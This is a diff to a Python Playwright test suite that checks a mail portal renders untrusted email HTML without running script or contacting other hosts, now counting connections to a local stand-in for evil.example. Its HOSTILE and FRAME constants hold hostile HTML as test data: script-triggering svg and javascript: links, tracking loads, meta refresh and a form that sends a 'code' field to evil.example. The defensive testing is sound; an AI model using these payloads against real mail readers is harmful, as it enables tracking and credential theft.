@@ -1,14 +1,18 @@
 """A person with a real browser picks a message up: code, text, attachment; the mail's own code stays dead."""
 
+import asyncio
 import ssl
 from collections.abc import AsyncIterator
+from dataclasses import dataclass
 from pathlib import Path
 from urllib.parse import urlsplit
 
+import msgspec
 import pytest
 import trustme
-from playwright.async_api import Browser, BrowserContext, Page, async_playwright
+from playwright.async_api import Browser, BrowserContext, Error, Page, async_playwright
 
+from gateway.inspect.render import Rendered
 from gateway.inspect.renderer import Renderer, render_pool
 from gateway.store.vault import Vault
 from gateway.web.portal.app import portal_app
@@ -33,10 +37,30 @@ HOSTILE = """
 <svg onload="document.title = 'ran'"><image href="https://evil.example/svg"></svg>
 <style>@import "https://evil.example/css"; body { background: url(https://evil.example/bg) }</style>
 <link rel="stylesheet" href="https://evil.example/link"><base href="https://evil.example/">
-<iframe src="https://evil.example/frame"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
 <form action="https://evil.example/form"><input name="code"><button>Show my message</button></form>
 <a href="javascript:document.title = 'ran'" id="trap">more</a>
 """
+# Chromium opens a connection for a frame before it finds that the policy forbids it: only the sanitiser keeps that quiet.
+FRAME = '<iframe src="https://evil.example/frame"></iframe>'
+
+
+@dataclass
+class Leaks:
+    """Connections that a browser made because mail told it to."""
+
+    port: int = 0
+    connections: int = 0
+
+
+class OpenReader(Renderer):
+    """The renderer, which can be told to answer with HTML that nobody sanitised."""
+
+    html = ""
+
+    async def render(self, data: bytes) -> Rendered:
+        shown = await super().render(data)
+        return msgspec.structs.replace(shown, html=self.html or shown.html)
 
 
 @pytest.fixture
@@ -49,21 +73,44 @@ def server_tls(tmp_path: Path) -> ssl.SSLContext:
 
 
 @pytest.fixture
-async def clinic(tmp_path: Path) -> AsyncIterator[Clinic]:
-    store = await open_store(tmp_path, Vault(bytes(range(32))))
+async def reader() -> AsyncIterator[OpenReader]:
     pool = render_pool()
     await pool.start()
-    yield Clinic(store, reader=Renderer(pool))
+    yield OpenReader(pool)
     await pool.stop()
+
+
+@pytest.fixture
+async def clinic(tmp_path: Path, reader: OpenReader) -> AsyncIterator[Clinic]:
+    store = await open_store(tmp_path, Vault(bytes(range(32))))
+    yield Clinic(store, reader=reader)
     await store.close()
 
 
 @pytest.fixture
-async def chromium(clinic: Clinic, server_tls: ssl.SSLContext) -> AsyncIterator[Browser]:
-    """Chromium, for which the portal's public name leads to our port and every other name to nowhere."""
+async def leaks() -> AsyncIterator[Leaks]:
+    """Where evil.example leads to: counts whoever comes."""
+    leaks = Leaks()
+
+    async def count(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        leaks.connections += 1
+        writer.close()
+
+    server = await asyncio.start_server(count, "127.0.0.1", 0)
+    leaks.port = server.sockets[0].getsockname()[1]
+    yield leaks
+    server.close()
+    await server.wait_closed()
+
+
+@pytest.fixture
+async def chromium(clinic: Clinic, server_tls: ssl.SSLContext, leaks: Leaks) -> AsyncIterator[Browser]:
+    """Chromium, for which the portal's public name leads to our port, the evil one to a counter, others to nowhere."""
     server = HttpServer(portal_app(clinic.deps), host="127.0.0.1", port=0, tls=server_tls)
     await server.start()
-    rules = f"MAP {HOST}:443 127.0.0.1:{server.port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
+    names = {HOST: server.port, "evil.example": leaks.port}
+    rules = ", ".join(f"MAP {name} 127.0.0.1:{port}" for name, port in names.items())
+    rules += ", MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
     async with async_playwright() as playwright:
         browser = await playwright.chromium.launch(
             executable_path=need("chromium"), args=[*FLAGS, f"--host-resolver-rules={rules}"]
@@ -114,12 +161,12 @@ async def test_a_person_reads_and_downloads(clinic: Clinic, context: BrowserCont
     assert await page.get_by_role("heading", name="This page has closed").is_visible()
 
 
-async def test_po_09_po_10_hostile_html_runs_and_loads_nothing(clinic: Clinic, context: BrowserContext) -> None:
+async def test_po_09_po_10_hostile_html_runs_and_loads_nothing(
+    clinic: Clinic, context: BrowserContext, leaks: Leaks
+) -> None:
     """PO-09, PO-10: no script runs, no request leaves to another host, in the frame and on a page of its own."""
-    token = await clinic.publish(make_mail(html=HOSTILE))
+    token = await clinic.publish(make_mail(html=HOSTILE + FRAME))
     page = await context.new_page()
-    hosts: set[str | None] = set()
-    context.on("request", lambda request: hosts.add(urlsplit(request.url).hostname))
     await pick_up(page, clinic, token)
     frame = page.frame_locator("iframe")
     await frame.get_by_text("All is well.").wait_for()
@@ -131,7 +178,32 @@ async def test_po_09_po_10_hostile_html_runs_and_loads_nothing(clinic: Clinic, c
     await page.get_by_text("more").click()
     assert await page.title() == "Message"
     assert await page.evaluate("self.origin") == "null"  # no cookies, no access to our pages
-    assert hosts == {HOST}
+    assert leaks.connections == 0
+
+
+async def test_the_leak_counter_counts(context: BrowserContext, leaks: Leaks) -> None:
+    """The two tests around this one would pass with a counter that nothing can reach."""
+    page = await context.new_page()
+    with pytest.raises(Error, match="net::"):
+        await page.goto("https://evil.example/")
+    assert leaks.connections > 0
+
+
+async def test_po_09_the_second_wall_holds_alone(
+    clinic: Clinic, reader: OpenReader, context: BrowserContext, leaks: Leaks
+) -> None:
+    """PO-09, PO-10: the mail's HTML as it came, as if the sanitiser let everything through: the frame still holds."""
+    reader.html = HOSTILE
+    token = await clinic.publish(make_mail(html="<p>x</p>"))
+    page = await context.new_page()
+    await pick_up(page, clinic, token)
+    frame = page.frame_locator("iframe[title=Message]")
+    await frame.get_by_text("All is well.").wait_for()
+    await frame.locator("#trap").click()
+    await frame.get_by_role("button", name="Show my message").click()
+    assert "ran" not in await page.title()
+    assert page.url == f"{BASE_URL}/message"
+    assert leaks.connections == 0
 
 
 async def test_every_page_fits_a_small_phone_and_works_by_keyboard(clinic: Clinic, chromium: Browser) -> None:
